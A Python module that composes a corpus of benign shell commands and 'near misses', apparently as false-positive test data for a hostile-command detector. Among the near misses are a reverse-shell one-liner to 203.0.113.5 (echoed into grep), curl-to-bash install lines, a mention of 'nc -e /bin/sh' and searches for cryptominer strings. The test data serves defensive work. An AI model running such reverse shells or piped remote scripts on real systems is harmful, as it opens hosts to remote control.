"""A corpus of ordinary shell lines, composed from what developers and researchers type, and of lines that come near."""

from __future__ import annotations

import itertools
from string import Formatter

__all__ = ["NEAR_MISSES", "benign_lines"]

FILLERS: dict[str, list[str]] = {
    "py": ["train.py", "src/main.py", "scripts/eval.py", "setup.py", "tests/test_model.py", "app.py"],
    "dir": ["src", "tests", "/srv/data", "~/project", "./build", "docs", "../lib"],
    "file": ["README.md", "data.csv", "notes.txt", "config.yaml", "main.c", "/var/log/syslog", "results.json"],
    "ext": ["py", "txt", "log", "c", "json", "tmp", "ipynb"],
    "word": ["TODO", "error", "import os", "def main", "timeout", "192.168", "password"],
    "pkg": ["numpy", "torch", "requests", "pytest", "ruff", "pandas==2.2.0", "scikit-learn"],
    "host": ["server.example.org", "db1.example.com", "192.168.1.20", "login.cluster.example", "user@box.example"],
    "url": [
        "https://example.org/data.csv",
        "https://files.example.com/v1/model.tar.gz",
        "http://localhost:8080/health",
    ],
    "n": ["1", "5", "10", "100"],
    "branch": ["main", "feature/login", "v1.2.3", "origin/dev"],
    "pat": ["'*.py'", "'*.log'", '"*.txt"', "'test_*'"],
    "user": ["alice", "www-data", "root"],
    "port": ["22", "80", "443", "5432", "8888"],
}

TEMPLATES = """
ls -la {dir}
ls -lt {dir} | head -n {n}
cd {dir} && ls
cat {file}
cat {file} | wc -l
head -n {n} {file}
tail -f {file}
tail -n {n} {file} | grep {word}
grep -rn "{word}" {dir}
grep -c "{word}" {file}
grep -rl "{word}" {dir} | xargs sed -i 's/old/new/g'
grep -v "^#" {file} | sort | uniq -c | sort -rn | head -{n}
rg "{word}" -t {ext} {dir}
find {dir} -name {pat}
find {dir} -type f -name {pat} -mtime -{n}
find {dir} -name {pat} -exec grep -l "{word}" {{}} \\;
find {dir} -name {pat} -print0 | xargs -0 rm -f
find {dir} -type f -size +{n}M -exec ls -lh {{}} +
find {dir} -name "*.{ext}" | xargs wc -l
find {dir} -type d -empty -delete
find . -name "*.{ext}" -newer {file}
find {dir} -user {user} -perm 644
sed -n '{n},20p' {file}
sed -i "s/{word}/x/g" {file}
awk '{{print $1}}' {file} | sort -u
awk -F: '{{print $1, $3}}' {file}
awk 'NR=={n}' {file}
cut -d, -f{n} {file} | sort | uniq
sort -k2 -n {file} | head -{n}
wc -l {dir}/*.{ext}
du -sh {dir}
du -h --max-depth={n} {dir} | sort -h
df -h {dir}
tar -czf backup.tar.gz {dir}
tar -xzf archive.tar.gz -C {dir}
tar cf - {dir} | pv | gzip > out.tgz
zip -r out.zip {dir}
unzip -q archive.zip -d {dir}
cp -r {dir} /tmp/copy
cp {file} {file}.bak
mv {file} {dir}/
rm -rf {dir}/__pycache__
mkdir -p {dir}/new && touch {dir}/new/{file}
chmod +x {py}
chmod -R u+w {dir}
chown -R {user}:{user} {dir}
ln -s {dir} link
diff -u {file} other.txt
stat -c %s {file}
file {file}
sha256sum {file}
md5sum {dir}/*.{ext} > sums.md5
python {py}
python3 {py} --epochs {n} --lr 1e-3
python -m pytest {dir} -q
python -m pytest -o log_cli=true -p no:cacheprovider tests/test_{n}.py
python -m pip install {pkg}
pip install -U {pkg}
pip install --no-cache-dir -r requirements.txt && pip install {pkg}
python -m venv .venv && . .venv/bin/activate && pip install {pkg}
python -c "import {pkg}; print('ok')"
python -c "print(sum(range({n})))"
python3 -c "import json,sys; print(json.load(open('{file}')))"
python -m json.tool {file}
uv pip install {pkg}
uv run {py} --n {n}
conda install -y {pkg}
conda run -n base python {py}
CUDA_VISIBLE_DEVICES=0 python {py} --batch {n}
nohup python {py} > train.log 2>&1 &
OMP_NUM_THREADS={n} python {py}
torchrun --nproc_per_node={n} {py}
jupyter nbconvert --to script {file}
jupyter lab --port {port} --no-browser
git status
git log --oneline -n {n}
git diff {branch} -- {file}
git checkout -b topic-{n} {branch}
git clone https://git.example.org/team/repo.git {dir}
git clone git@git.example.org:team/repo.git
git clone ssh://git@git.example.org:7999/team/repo.git
git push origin {branch}
git fetch --all --prune && git rebase {branch}
git commit -am "fix {word}"
git grep -n "{word}" {branch}
git stash && git pull --rebase && git stash pop
git -c user.name=x commit --amend --no-edit
make -j{n}
make -C {dir} clean all
make test 2>&1 | tail -n {n}
make -o {file} all
cmake -B build -S {dir} && cmake --build build -j{n}
gcc -O2 -o prog {file}
gcc -Wall -c {file} -o out.o
g++ -std=c++20 -I {dir} main.cpp -o main
cargo build --release
cargo test {word}
go build ./...
go test ./... -run Test{n}
npm install
npm ci && npm run build
npm test -- --watch=false
npx eslint {dir}
npx tsc --noEmit -p {dir}
yarn install && yarn build
node {dir}/index.js
docker build -t app:{n} {dir}
docker run --rm -it -u 1000 -v $PWD:/app -p 8080:80 python:3.12 python {py}
docker run -d --name db -e POSTGRES_PASSWORD=x -p 5432:5432 postgres:16
docker compose up -d
docker exec -it web sh -c "ls {dir}"
docker ps -a --format '{{{{.Names}}}}'
kubectl get pods -n {user}
kubectl logs -f deploy/app --tail={n}
curl -s {url}
curl -fsSL {url} -o {file}
curl -u {user}:secret {url}
curl -X POST -H "Content-Type: application/json" -d '{{"n": {n}}}' http://localhost:8000/api
curl -X POST -d @{file} https://api.example.org/v1/items
curl -o out.html -w "%{{http_code}}" {url}
wget -q {url} -O {file}
wget -c --tries={n} {url}
ssh {host}
ssh -i ~/.ssh/id_ed25519 -p 2222 {host} "ls {dir}"
ssh -o StrictHostKeyChecking=no {host} uptime
ssh -t {host} "cd {dir} && make"
ssh {host} 'cat {file}' > local.txt
scp {file} {host}:/tmp/
scp -r {dir} alice@server.example.org:~/backup/
rsync -avz {dir}/ {host}:/srv/backup/
rsync -av -e "ssh -p 2222" {dir} {host}:/data
rsync -a --delete {dir}/ /mnt/backup/
rsync -avzP {host}:/srv/data/ {dir}
ping -c {n} {host}
nc -z localhost {port}
nc -zv db1.example.com {port}
dig +short example.org
host {host}
nslookup server.example.org
ss -tlnp | grep {port}
lsof -i :{port}
netstat -an | grep {port}
ps aux | grep {word}
ps -u {user} -o pid,cmd --sort=-%cpu | head -{n}
top -b -n {n} | head -20
kill {n}234
pkill -f {py}
kill -9 $(pgrep -f {py})
nvidia-smi --query-gpu=utilization.gpu --format=csv -l {n}
watch -n {n} nvidia-smi
free -m
uptime
mysql -h {host} -u {user} -psecret -e "select {n}"
psql -h localhost -p 5432 -U {user} -c "select {n}"
mysqldump -u {user} -p db > dump.sql
sqlite3 db.sqlite "select * from t limit {n}"
redis-cli -h localhost -p 6379 get key{n}
for f in *.{ext}; do echo "$f"; done
for i in $(seq 1 {n}); do python {py} --seed $i; done
for i in {{1..{n}}}; do sleep 1; done
for h in a b c; do ssh $h.example.org uptime; done
while read line; do echo "$line"; done < {file}
while ! nc -z localhost {port}; do sleep 1; done
until curl -sf http://localhost:8080/health; do sleep {n}; done
if [ -f {file} ]; then cat {file}; else echo missing; fi
[[ -d {dir} ]] && rm -r {dir} || true
echo "{word}" >> {file}
echo $PATH | tr ':' '\\n'
export PYTHONPATH={dir} && python {py}
printf '%s\\n' {word} > {file}
cat > {file} <<EOF
tee -a {file} < input.txt
sudo apt-get update && sudo apt-get install -y {pkg}
sudo systemctl restart nginx
sudo systemctl status {word}
journalctl -u app -n {n}
crontab -l
date +%Y-%m-%d
base64 {file} > out.b64
base64 -d out.b64 > {file}
openssl rand -hex {n}
openssl x509 -in cert.pem -noout -text
gzip -k {file}
xz -T0 {file}
jq '.[{n}].name' results.json
convert in.png -resize {n}% out.png
ffmpeg -i in.mp4 -ss {n} out.mp4
pdflatex paper.tex
tmux new -s work-{n}
screen -r
time python {py}
timeout {n} python {py}
nice -n 10 make -j{n}
env | sort
history | tail -{n}
whoami && hostname && id
uname -a
ip addr show
ifconfig eth0
pytest -x -q {dir} -k "{word}"
ruff check {dir} && ruff format --check {dir}
mypy --strict {dir}
black {dir}
tox -e py31{n}
pre-commit run --all-files
sphinx-build -b html docs out/{n}
"""

NEAR_MISSES = r"""
ssh -N -f host.example -o ControlMaster=yes -S /tmp/s echo
rsync -e ssh -a src/ host.example:dst/
GIT_SSH_COMMAND='ssh -i ~/.ssh/k -o IdentitiesOnly=yes' git clone git@git.example:a/b.git
grep -R 8080:localhost:80 notes.txt
grep -rn 'stratum+tcp://' docs/
echo "ssh -R 2222:localhost:22 user@host" >> notes.md
git commit -m "Document ssh -R and nc -e /bin/sh"
git log --grep='xmrig'
man ssh
man nc
which nc ncat socat
command -v chisel
apt-cache show socat
type -a ngrok
echo 'bash -i >& /dev/tcp/203.0.113.5/4444 0>&1' | grep -c tcp
rg 'bash -i >& /dev/tcp' rules/
cat docs/reverse-shells.md | less
vim tunnel.py
ls xmrig/
rm -rf ./xmrig
sort -o out.txt -u in.txt
sort -t: -k3 -n -o sorted.txt passwd.txt
gcc -o pool:3333 x.c
tar -o -xf a.tar
mysql -u root -p -h db.example:3306
docker run -u 1000:1000 -p 3333:3333 app
docker run -p 8080:80 -e POOL=1 web --url http://localhost:3000
pytest -o addopts="" -p xdist -n 4
curl -u user:pass -o out.json https://api.example.org:8443/v1
curl -x http://proxy.example:3128 https://example.org
curl -L -o model.bin https://files.example.com:443/model.bin
python server.py --host 0.0.0.0 --port 8080
python client.py --server localhost:50051 --user alice
python train.py -a resnet50 -u -o out/run1
python bench.py --algo sha256 --size 1000
python main.py --pool 8 --workers 4
python crack.py -a 3 -m 0
hashlib_test -a sha256
uvicorn app:api --host 127.0.0.1 --port 8000 --reload
gunicorn -w 4 -b 0.0.0.0:8000 app:app
psql postgresql://user:pass@db.example.org:5432/app -c 'select 1'
redis-cli -u redis://localhost:6379 ping
nc -z localhost 22
nc -zv localhost 8000-8010
nc -vz db.example.org 5432
nc -w 2 localhost 6379 < ping.txt
echo ruok | nc localhost 2181
echo stats | nc localhost 11211
printf 'GET / HTTP/1.0\r\n\r\n' | nc localhost 80
echo > /dev/tcp/localhost/5432
(echo > /dev/tcp/127.0.0.1/8080) 2>/dev/null && echo up
timeout 1 bash -c 'cat < /dev/null > /dev/tcp/db/5432'
openssl s_client -connect example.org:443 -servername example.org < /dev/null
echo | openssl s_client -connect example.org:443 2>/dev/null | openssl x509 -noout -dates
telnet localhost 25
socat -V
socat - UNIX-CONNECT:/tmp/app.sock
ping -c 3 8.8.8.8
ping -c 1 10.0.0.1
for i in 1 2 3; do ping -c1 node$i; done
for p in 80 443; do nc -z localhost $p; done
for i in {1..100}; do curl -s http://localhost:8000/item/$i; done
for i in $(seq 1 50); do curl -s "https://api.example.org/page?n=$i" >> all.json; done
seq 1 50 | xargs -I{} curl -s https://example.org/page/{} -o {}.html
seq 1 10 | xargs -P4 -I{} python job.py --seed {}
nmap --version
nmap -p 22 localhost
python -m http.server 8000
python3 -m http.server --bind 127.0.0.1
python -c "import socket; print(socket.gethostname())"
python -c "import socket; s=socket.socket(); s.bind(('',0)); print(s.getsockname()[1])"
python -c "import subprocess; print(subprocess.run(['ls'],capture_output=True).stdout)"
python -c "import os; os.system('ls -la')"
python -c "import requests; print(requests.get('https://example.org').status_code)"
python -c "import urllib.request as u; u.urlretrieve('https://example.org/a.bin','a.bin')"
python -c "import base64; print(base64.b64decode('aGVsbG8gd29ybGQgdGhpcyBpcyBmaW5l'))"
python3 -c "import torch; print(torch.cuda.is_available(), torch.cuda.device_count())"
python3 -c "from datasets import load_dataset; load_dataset('x')"
perl -pe 's/a/b/' file
perl -MSocket -e 'print inet_ntoa(inet_aton("localhost"))'
perl -e 'print "hello\n"'
ruby -e 'puts 1+1'
php -r 'echo phpversion();'
node -e "console.log(process.version)"
node -e "require('http').createServer((q,r)=>r.end('ok')).listen(3000)"
awk '/inet / {print $2}' addrs.txt
awk 'BEGIN{while((getline l < "f")>0) print l}'
curl -sSL https://install.example.org/get.sh | bash
curl -LsSf https://tools.example.org/uv/install.sh | sh
wget -qO- https://example.org/install.sh | sh -s -- --yes
curl -s https://example.org/key.gpg | sudo gpg --dearmor -o /etc/apt/keyrings/x.gpg
bash <(curl -s https://ci.example.org/bash)
eval "$(ssh-agent -s)"
eval "$(conda shell.bash hook)"
eval "$(direnv hook bash)"
source <(kubectl completion bash)
echo aGVsbG8= | base64 -d
echo 'ZWNobyBoaQ==' | base64 -d > script.txt
base64 -d key.b64 | gunzip > key.bin
cat image.png | base64 -w0 | pbcopy
xxd -r -p dump.hex out.bin
ssh-keygen -t ed25519 -f ~/.ssh/id_ed25519 -N ''
ssh-copy-id alice@server.example.org
ssh-add ~/.ssh/id_ed25519
cat ~/.ssh/id_ed25519.pub
cat ~/.ssh/config
cat ~/.ssh/id_rsa.pub | ssh alice@server.example.org 'cat >> ~/.ssh/authorized_keys'
scp ~/.ssh/id_rsa.pub server.example.org:key.pub
chmod 600 ~/.ssh/authorized_keys
ls -la ~/.ssh
cat /etc/passwd
cut -d: -f1 /etc/passwd | sort
getent passwd alice
grep root /etc/passwd
cat .env.example
cp .env.example .env
source .env
curl -F file=@report.pdf http://localhost:8000/upload
curl -F 'image=@cat.png' https://api.example.org/predict
curl -X PUT -d @config.json https://api.example.org/config
curl --data-binary @payload.json -H 'Content-Type: application/json' https://api.example.org/v1
curl -d 'user=a&pass=b' https://example.org/login
curl -X POST https://hooks.slack.com/services/T/B/X -d '{"text":"done"}'
curl -H "Authorization: Bearer $TOKEN" https://api.example.org/me
curl http://localhost:11434/api/generate -d '{"model":"m","prompt":"hi"}'
curl -s "https://api.example.org/search?q=$(date +%F)"
wget --post-data='a=b' https://example.org/form
tar czf - src | ssh alice@server.example.org 'tar xzf - -C /srv'
tar cz . | docker run -i --rm image tar tz
mysqldump db | gzip > db.sql.gz
pg_dump app | psql -h localhost app_copy
cat dump.sql | ssh db1.example.com mysql app
ssh host.example 'tar cz /srv/data' > data.tgz
rsync -av ~/project/ alice@server.example.org:~/project/
rsync -av --exclude .git . cluster.example:/scratch/me/
aws s3 ls s3://bucket/
aws s3 cp s3://bucket/data.csv .
gsutil cp gs://bucket/x .
rclone ls remote:
crontab -l | grep backup
crontab -e
echo 'alias ll="ls -la"' >> ~/.bashrc
echo 'export PATH=$HOME/bin:$PATH' >> ~/.profile
source ~/.bashrc
cat ~/.bashrc
sed -i '/foo/d' ~/.bashrc
cp hooks/pre-commit .git/hooks/pre-commit
systemctl --user status app
systemctl enable nginx
systemctl stop nginx
kill %1
kill -9 12345
kill -l
kill -0 4321
killall python
pkill -u alice jupyter
strace -c ls
gdb ./prog core
gdb -p 4321
LD_PRELOAD=/usr/lib/x86_64-linux-gnu/libjemalloc.so.2 python train.py
LD_PRELOAD=libtcmalloc.so.4 ./prog
LD_LIBRARY_PATH=./lib ./prog
exec "$@"
exec python app.py
exec 3>&1
exec > log.txt 2>&1
history | grep git
rm -f ~/.cache/pip
truncate -s 0 app.log
rm /tmp/*.log
iptables -L -n
ufw status
sysctl -a | grep net.core
sysctl vm.swappiness
ip route
ip neigh
arp -n
traceroute example.org
mount | grep data
docker run --rm -v "$PWD":/w -w /w alpine ls
docker images
chmod 755 /usr/local/bin/tool
chmod u+x run.sh
useradd --help
yes | apt-get install foo
yes | head -n 3
yes y | rm -i *.tmp
dd if=/dev/zero of=disk.img bs=1M count=100
dd if=/dev/urandom of=rnd bs=1k count=4
head -c 32 /dev/urandom | base64
cat /dev/urandom | head -c 100 | sha256sum
nohup python -u train.py > logs/train.log 2>&1 &
nohup jupyter lab --no-browser > /dev/null 2>&1 &
CUDA_VISIBLE_DEVICES=0,1 torchrun --nproc_per_node=2 train.py > out.log 2>&1 &
CUDA_VISIBLE_DEVICES="" pytest tests > /dev/null 2>&1 &
setsid ./server > /dev/null 2>&1 &
sleep 100 > /dev/null 2>&1 &
./run.sh -o results -u
./configure --prefix=/usr --with-pool=yes --host=x86_64-linux-gnu
./bench -p x -a 4
./prog --wallet test --port 3000
ffmpeg -i rtmp://localhost:1935/live -c copy -f flv rtmp://cdn.example:1935/app
kafka-console-producer.sh --bootstrap-server kafka.example:9092 --topic t
kubectl exec -it pod -- sh
kubectl port-forward svc/web 8080:80
code .
gh pr create --fill
go run ./cmd/server client
npx create-react-app client
npm run tunnel-docs
cargo run -- client 127.0.0.1:9000
python proxy_test.py client server reverse
ansible all -m ping
terraform apply -auto-approve
vault status
bitcoin-cli -regtest generatetoaddress 1 bcrt1qxyz
bitcoin-cli getblockchaininfo
cast call 0x71C7656EC7ab88b098defB751B7401B5f6d8976F 'balanceOf(address)' 0x71C7656EC7ab88b098defB751B7401B5f6d8976F
geth version
solana balance
curl -d '{"jsonrpc":"2.0","method":"eth_blockNumber","params":[],"id":1}' https://rpc.example
pip install web3 eth-account
dig TXT example.org
dig -x 8.8.8.8
for d in a.example b.example; do dig +short $d; done
cat domains.txt | xargs -n1 dig +short
getent hosts db.example.org
echo $(hostname -f)
curl -s https://example.org/$(uname -s)-$(uname -m).tar.gz -o t.tgz
wget "https://example.org/releases/$(cat VERSION)/tool.tgz"
git remote add origin ssh://git@git.example:2222/a.git
pip install git+ssh://git@git.example/team/lib.git
jupyter notebook list
awk -F, '$3 > 100 {sum+=$4} END {print sum}' data.csv
find / -name "*.conf" 2>/dev/null
find . -name node_modules -prune -o -name '*.ts' -print
find . -type f -exec chmod 644 {} +
find . -name '*.sh' -exec sh -c 'echo "$1"' _ {} \;
ls | xargs -I{} sh -c 'echo {}; wc -l {}'
parallel -j4 gzip ::: *.log
tmux new -d -s train 'python train.py'
screen -dmS job python run.py
sshpass -p x ssh alice@server.example.org ls
ssh-keyscan host.example >> ~/.ssh/known_hosts
ssh -V
ssh -G host.example | grep port
ssh -O exit host.example
ssh -L
sftp alice@server.example.org
"""


def benign_lines() -> list[str]:
    """Return every composed line and every near miss, in a fixed order and without duplicates."""
    lines: dict[str, None] = {}
    for template in TEMPLATES.strip().splitlines():
        names = list(dict.fromkeys(name for _, name, _, _ in Formatter().parse(template) if name))
        choices = [FILLERS[name] for name in names]
        for values in itertools.islice(itertools.product(*choices), 36):
            lines[template.format(**dict(zip(names, values, strict=True)))] = None
    lines.update(dict.fromkeys(line for line in NEAR_MISSES.strip().splitlines() if line))
    return list(lines)
